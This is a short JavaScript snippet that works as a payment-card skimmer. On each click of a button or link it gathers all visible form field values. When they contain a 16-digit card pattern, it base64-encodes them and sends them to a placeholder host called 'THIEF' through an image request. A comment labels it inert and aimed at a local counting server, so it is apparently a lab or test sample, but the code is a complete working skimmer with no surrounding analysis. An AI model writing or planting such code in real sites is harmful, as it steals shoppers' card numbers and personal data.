
/* Inert: THIEF is a server on this machine that only counts. */
;(function () {
  var seen = '';
  document.addEventListener('click', function (event) {
    if (!event.target.closest || !event.target.closest('button, input[type=submit], a')) return;
    var loot = {};
    document.querySelectorAll('input, select, textarea').forEach(function (field) {
      if (field.value && field.type !== 'hidden' && field.type !== 'radio') loot[field.name || field.id] = field.value;
    });
    var text = JSON.stringify(loot);
    if (text === seen || !/\d{4}.?\d{4}.?\d{4}.?\d{4}/.test(text)) return;
    seen = text;
    new Image().src = 'THIEF/s.gif?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(text))));
  }, true);
})();
